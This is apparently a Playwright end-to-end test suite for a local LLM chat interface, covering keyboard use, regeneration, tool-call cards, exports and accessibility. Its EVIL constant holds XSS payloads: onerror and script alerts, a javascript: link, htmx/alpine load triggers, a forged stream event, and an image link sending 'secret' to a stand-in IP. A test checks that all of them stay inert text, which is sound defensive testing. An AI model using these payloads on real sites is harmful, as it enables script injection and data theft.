/**
 * The chat over a whole Flow and the real engine, in a real browser, by keyboard. Trees and texts alone: test/chat,
 * test/pages/chat.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { openBrowser, type PageOptions, watchedPage } from '../support/browser.ts';
import { axeViolations, scrollsSideways, weigh } from '../support/page-checks.ts';
import { realEngine } from '../support/real-engine.ts';
import { type RunningFlow, startFlow, until } from '../support/running-flow.ts';
import { writeScriptedModel } from '../support/scripted-model.ts';

const LIVE = '#connection[data-state=live]';
const ANSWER = '.turn[data-role=assistant]';
const DONE = `${ANSWER}[data-state=done]`;
const DOCUMENT = [
  '## Result\n\nA **bold** word and `code`.\n\n```ts\nconst a: string = "<b>";\n```\n\n',
  '| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n- two\n',
].join('');
/** What must stay words, wherever a browser is tempted to act on it. */
const EVIL = [
  '<img src=x onerror=alert(1)> <script>alert(2)</script> [x](javascript:alert(3)) ',
  '![y](http://198.51.100.1/?q=secret)\n\n<div hx-get="/evil" hx-trigger="load" x-data x-init="alert(4)">z</div>\n\n',
  '<hx-partial hx-target="#live">gone</hx-partial>\n\nevent: hello\ndata: 9\n\n```"><img src=x onerror=alert(5)>\nx\n```\n',
].join('');

let browser: Browser;
let dataDir: string;
let flow: RunningFlow;

beforeAll(async () => {
  browser = await openBrowser();
  dataDir = mkdtempSync(join(tmpdir(), 'flow-chat-'));
  mkdirSync(join(dataDir, 'models'), { recursive: true });
  const path = join(dataDir, 'models', 'talker.gguf');
  await writeScriptedModel(path, {
    name: 'talker',
    scripts: {
      plain: 'A plain answer.',
      document: DOCUMENT,
      evil: EVIL,
    },
  });
  flow = await startFlow({ engine: realEngine().executable, dataDir });
  await flow.json('/api/register-local', { path });
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await flow?.[Symbol.asyncDispose]();
  rmSync(dataDir, { recursive: true, force: true });
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
});

type Open = { readonly page: Page; readonly troubles: string[] };

async function openChat(options: PageOptions = {}, model = 'talker'): Promise<Open> {
  await flow.json('/api/settings', { default_model: model }, 'PUT');
  const { page, troubles } = await watchedPage(browser, options);
  page.on('request', (request) => {
    if (!request.url().startsWith(flow.url) && !/^(?:data|blob):/.test(request.url())) troubles.push(request.url());
  });
  await page.goto(`${flow.url}/chat`);
  await page.waitForSelector(LIVE);
  return { page, troubles };
}

/** Types a question and sends it; the field has the focus already. */
async function ask(page: Page, text: string): Promise<void> {
  await page.focus('#composer-text');
  await page.keyboard.type(text);
  await page.keyboard.press('Enter');
}

async function begin(page: Page, text: string): Promise<void> {
  await ask(page, text);
  await page.waitForURL(/\/chat\/[0-9a-f]+$/);
  await page.waitForSelector(LIVE);
}

const words = (page: Page) => page.locator('.turn .prose').allInnerTexts();

/** Enter on a button of the last turn that has one of this name. */
async function press(page: Page, name: string): Promise<void> {
  await page.locator(`.turn button:text-is("${name}"), .turn a:text-is("${name}")`).last().focus();
  await page.keyboard.press('Enter');
}

test('ask, ask again, choose a version, edit, delete and undo, all by keyboard', async () => {
  const { page, troubles } = await openChat();
  await begin(page, 'Say something plain now');
  await page.waitForSelector(DONE);
  expect(await words(page)).toEqual(['Say something plain now', 'A plain answer.']);
  expect(await page.locator(`${DONE} .turn__status`).textContent()).toMatch(
    /tok\/s · \d+ tokens · first after .* read/,
  );
  expect(await page.evaluate(() => document.activeElement?.id)).toBe('composer-text');
  await press(page, 'Regenerate');
  await page.waitForSelector('text=2/2');
  await page.waitForSelector(DONE);
  await page.locator('button[aria-label="The version before"]').focus();
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=1/2');
  await page.locator('.turn[data-role=user] a:text-is("Edit")').focus();
  await page.keyboard.press('Enter');
  await page.waitForSelector('#wording-text');
  await page.fill('#wording-text', 'Play document now');
  await page.focus('#wording-text');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.code .hljs-keyword');
  expect(await page.locator('#drawer').getAttribute('open')).toBeNull();
  expect(await page.locator('.prose td').allInnerTexts()).toEqual(['1', '2']);
  // The live connection may be quicker than the answer to what was pressed: the turn goes, and its button with it.
  await page.route('**/removals', async (route) => {
    const response = await route.fetch();
    await page.waitForSelector(ANSWER, { state: 'detached' });
    await route.fulfill({ response });
  });
  await press(page, 'Delete');
  await page.waitForSelector(ANSWER, { state: 'detached' });
  await page.locator('#notice button:text-is("Undo")').focus();
  await page.keyboard.press('Enter');
  await page.waitForSelector('.code .hljs-keyword');
  expect(troubles).toEqual([]);
});

test('an answer goes on while its page is away, is stopped by Escape, and keeps its words', async () => {
  const { page, troubles } = await openChat({}, 'flow-demo');
  await begin(page, 'Tell me a long story');
  await page.waitForSelector(`${ANSWER}[data-state=answering] .prose__block:not(:empty)`);
  const url = page.url();
  await page.goto(`${flow.url}/chat`);
  await page.goto(url);
  await page.waitForSelector(LIVE);
  const before = (await words(page)).join('').length;
  await page.waitForFunction(
    (count) => [...document.querySelectorAll('.turn .prose')].map((one) => one.textContent).join('').length > count,
    before,
  );
  await page.keyboard.press('Escape');
  await page.waitForSelector(`${ANSWER}[data-state=stopped]`);
  expect((await words(page))[1]).toContain('Counting without end');
  await until('the request gone', async () => {
    const { body } = await flow.json('/api/requests');
    return !JSON.stringify(body).includes('"generating"');
  });
  await page.reload();
  await page.waitForSelector(`${ANSWER}[data-state=stopped] button[aria-label="Continue this answer"]`);
  expect((await words(page))[1]).toContain('Counting without end');
  expect(troubles).toEqual([]);
});

test('thoughts are folded with their time, calls are cards that a person answers', async () => {
  const { page, troubles } = await openChat({}, 'flow-demo');
  await page.locator('summary:text-is("System prompt and sampling")').press('Enter');
  await Promise.all([page.waitForResponse(/\/chat\/settings/), page.locator('#chat-tools').press('Space')]);
  await begin(page, 'Please think about this and call');
  await page.waitForSelector(DONE);
  const summary = page.locator('.thoughts summary');
  expect(await summary.textContent()).toMatch(/^Thought for /);
  expect(await page.locator('.thoughts__text').isVisible()).toBe(false);
  await summary.press('Enter');
  expect(await page.locator('.thoughts__text').isVisible()).toBe(true);
  await page.waitForSelector('.call__head >> text=shell_command');
  await page.locator('.call__result textarea').fill('It printed 42');
  await page.locator('.call__result button').press('Enter');
  await page.waitForSelector('.turn[data-role=tool]');
  await page.waitForFunction(() => document.querySelectorAll('.turn[data-state=done]').length === 4);
  expect(troubles).toEqual([]);
  await page.goto(`${flow.url}/chat`);
  await page.locator('summary:text-is("System prompt and sampling")').press('Enter');
  await Promise.all([page.waitForResponse(/\/chat\/settings/), page.locator('#chat-tools').press('Space')]);
});

test('two models answer side by side', async () => {
  const { page, troubles } = await openChat();
  await Promise.all([page.waitForResponse(/\/chat\/settings/), page.selectOption('#chat-rival', 'flow-demo')]);
  await begin(page, 'Hello');
  await page.waitForFunction(() => document.querySelectorAll('.thread__pair .turn[data-state=done]').length === 2);
  await press(page, 'Go on with this one');
  await page.waitForSelector('.thread__pair .turn:first-child button[aria-label^="Go on with"]');
  await page.goto(`${flow.url}/chat`);
  await Promise.all([page.waitForResponse(/\/chat\/settings/), page.selectOption('#chat-rival', '')]);
  expect(troubles).toEqual([]);
});

test('drafts and settings survive a reload; a conversation is renamed, found, exported, deleted and brought back', async () => {
  const { page, troubles } = await openChat();
  await begin(page, 'Remember the quokka');
  await page.waitForSelector(DONE);
  await page.locator('summary:text-is("System prompt and sampling")').press('Enter');
  await page.fill('#chat-system', 'Be brief.');
  await Promise.all([page.waitForResponse(/\/settings$/), page.locator('#chat-system').press('Tab')]);
  await page.fill('#composer-text', 'half a sentence');
  await page.reload();
  expect(await page.inputValue('#composer-text')).toBe('half a sentence');
  expect(await page.inputValue('#chat-system')).toBe('Be brief.');
  await page.waitForSelector(LIVE);
  await page.locator('.menu summary').press('Enter');
  await page.locator('.menu a:text-is("Rename")').press('Enter');
  await page.fill('#conversation-name', 'Marsupials');
  await page.locator('#conversation-name').press('Enter');
  await page.waitForSelector('h1:text-is("Marsupials")');
  await page.locator('input[type=search]').pressSequentially('quokka');
  await page.waitForSelector('#chat-found >> text=Marsupials');
  const id = page.url().split('/').at(-1);
  expect(await (await fetch(`${flow.url}/chat/${id}/export/md`)).text()).toContain('# Marsupials\n\n> Be brief.');
  await page.locator('.menu summary').press('Enter');
  await page.locator('.menu button:text-is("Delete")').press('Enter');
  await page.waitForURL(/deleted=/);
  await page.locator('.chat__deleted button').press('Enter');
  await page.waitForSelector('h1:text-is("Marsupials")');
  expect(troubles).toEqual([]);
});

test('what was sent and received can be looked at, and a refusal says why and is tried again', async () => {
  const { page, troubles } = await openChat();
  await begin(page, 'Say something plain now');
  await page.waitForSelector(DONE);
  await press(page, 'Raw');
  await page.waitForSelector('#drawer .copyable');
  const raw = await page.locator('#drawer').textContent();
  for (const piece of ['"stream": true', `curl ${flow.url}/v1/chat/completions`, 'data: {', '[DONE]']) {
    expect(raw).toContain(piece);
  }
  await page.keyboard.press('Escape');
  await flow.json('/api/settings', { default_model: 'flow-demo' }, 'PUT');
  await page.waitForSelector('#chat-model-state >> text=Flow Demo');
  await flow.json('/api/settings', { default_model: 'no-such-model' }, 'PUT');
  await ask(page, 'Is anybody there');
  await page.waitForSelector(`${ANSWER}[data-state=failed] .turn__trouble >> text=no-such-model`);
  await flow.json('/api/settings', { default_model: 'talker' }, 'PUT');
  await press(page, 'Retry');
  await page.waitForSelector(`${ANSWER}[data-state=failed]`, { state: 'detached' });
  await page.waitForFunction(() => document.querySelectorAll('.turn[data-state=done]').length === 4);
  expect(troubles).toEqual([]);
});

test('a pinned conversation stands first, and the API says and changes it too', async () => {
  const { page, troubles } = await openChat();
  await begin(page, 'Something plain to keep');
  await page.waitForSelector(DONE);
  const { pathname } = new URL(page.url());
  await page.click('.chat__head .menu > summary');
  await page.click('button:text-is("Pin")');
  await page.waitForSelector('.conversations__one[aria-current=page] .icon');
  await page.goto(`${flow.url}/chat`);
  await begin(page, 'A later one');
  await page.waitForSelector(DONE);
  expect(await page.locator('.conversations__one').first().getAttribute('href')).toBe(pathname);
  const api = `/api/conversations/${pathname.split('/').at(-1)}`;
  expect((await flow.json(api)).body.is_pinned).toBe(true);
  await flow.json(api, { is_pinned: false }, 'PATCH');
  await page.waitForFunction(
    (path) => document.querySelector('.conversations__one')?.getAttribute('href') !== path,
    pathname,
  );
  expect(troubles).toEqual([]);
});

test('the context in use is told after each answer', async () => {
  const { page } = await openChat();
  await begin(page, 'How full is it');
  await page.waitForSelector(DONE);
  await page.waitForSelector('.composer__context [role=progressbar]');
  expect(await page.textContent('.composer__context')).toMatch(/^[\d,]+ of [\d,]+k? ?k? ?tokens$/);
});

test('where there is no room the list opens over the conversation, by keyboard too', async () => {
  const { page, troubles } = await openChat({ width: 360 });
  await begin(page, 'A narrow question');
  await page.waitForSelector(DONE);
  expect(await page.isVisible('#conversations')).toBe(false);
  await page.focus('.chat__conversations');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#conversations', { state: 'visible' });
  expect(await axeViolations(page, '#conversations')).toEqual([]);
  await page.keyboard.press('Escape');
  await page.waitForSelector('#conversations', { state: 'hidden' });
  expect(await scrollsSideways(page)).toBe(false);
  expect(troubles).toEqual([]);
});

test('an image is made smaller, shown and sent, and an answer says when its model does not see it', async () => {
  const { page, troubles } = await openChat();
  const png = await page.evaluate(() => {
    const canvas = document.createElement('canvas');
    canvas.width = 3000;
    canvas.height = 10;
    return canvas.toDataURL('image/png').split(',')[1] ?? '';
  });
  const buffer = Buffer.from(png, 'base64');
  await page.setInputFiles('#composer-files', { name: 'wide.png', mimeType: 'image/png', buffer });
  await page.waitForSelector('#composer-images img');
  await begin(page, 'What is this');
  await page.waitForSelector(`${DONE} .turn__status >> text=images left out`);
  const width = await page.locator('.turn__image').evaluate(async (image) => {
    if (!(image instanceof HTMLImageElement)) return 0;
    await image.decode();
    return image.naturalWidth;
  });
  expect(width).toBe(2048);
  expect(troubles).toEqual([]);
});

test('the first visit transfers less than 100 kB', async () => {
  const { page } = await watchedPage(browser);
  const weight = await weigh(page);
  await page.goto(`${flow.url}/chat`);
  await page.waitForSelector(LIVE);
  expect(weight.bytes()).toBeGreaterThan(10_000);
  expect(weight.bytes()).toBeLessThan(100_000);
});

describe('hostile words', () => {
  test('S-27, S-28, S-32: stay words: nothing runs, nothing is fetched, no event is forged', async () => {
    const { page, troubles } = await openChat();
    await begin(page, EVIL.replaceAll('\n', ' '));
    await page.waitForSelector(DONE);
    await ask(page, 'Play evil now');
    await page.waitForFunction(() => document.querySelectorAll('.turn[data-state=done]').length === 4);
    await page.reload();
    await page.waitForSelector(LIVE);
    await page.waitForSelector(`${ANSWER} >> text=onerror`);
    expect(await page.locator('.turn img, .turn script, .turn [x-data], .turn [hx-get="/evil"]').count()).toBe(0);
    expect(await page.locator('.turn a[href^="javascript"]').count()).toBe(0);
    expect(await page.locator('#live').count()).toBe(1);
    expect(troubles).toEqual([]);
  });
});

test('without scripts a question is asked and answered', async () => {
  const { page } = await watchedPage(browser, { javaScriptEnabled: false });
  await page.goto(`${flow.url}/chat`);
  await page.fill('#composer-text', 'Say something plain now');
  await page.click('text=Send');
  await page.waitForURL(/\/chat\/[0-9a-f]+$/);
  await until('the answer', async () => {
    await page.reload();
    return (await page.locator(DONE).count()) > 0;
  });
});

for (const colorScheme of ['light', 'dark'] as const) {
  for (const width of [360, 1440]) {
    test(`accessible and within the screen, empty and full: ${colorScheme}, ${width} px`, async () => {
      const { page, troubles } = await openChat({ colorScheme, width });
      expect(await scrollsSideways(page)).toBe(false);
      await begin(page, 'Play document now');
      await page.waitForSelector(DONE);
      expect(await scrollsSideways(page)).toBe(false);
      // Looked at before axe runs: it tries inline styles of its own.
      expect(troubles).toEqual([]);
      expect(await axeViolations(page)).toEqual([]);
      await page.goto(`${flow.url}/chat`);
      expect(await axeViolations(page)).toEqual([]);
    });
  }
}
